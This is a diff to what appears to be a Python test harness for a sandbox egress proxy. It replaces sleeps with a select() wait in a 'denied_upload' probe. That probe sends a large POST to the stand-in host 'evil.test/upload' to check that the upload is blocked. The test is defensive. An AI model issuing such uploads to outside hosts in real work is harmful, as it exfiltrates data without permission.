@@ -10,6 +10,7 @@
 import errno
 import json
 import os
+import select
 import socket
 import ssl
 import subprocess
@@ -263,7 +264,7 @@ elif probe == "denied_upload":
     s = socket.create_connection(PROXY, timeout=5)
     s.sendall(b"POST http://evil.test/upload HTTP/1.1\r\nHost: evil.test\r\n"
               b"Content-Length: 4000000\r\n\r\n")
-    time.sleep(0.3)
+    select.select([s], [], [], 5)  # until the denial has come (read below)
     sent = 0
     try:
         for _ in range(250):
@@ -278,7 +279,6 @@ elif probe == "denied_upload":
     except Exception as e:
         obs["upload"] = err_name(e)
     s.close()
-    time.sleep(0.3)
     obs["after"] = curl("http://allowed.test/")
 
 elif probe == "model_api_only":
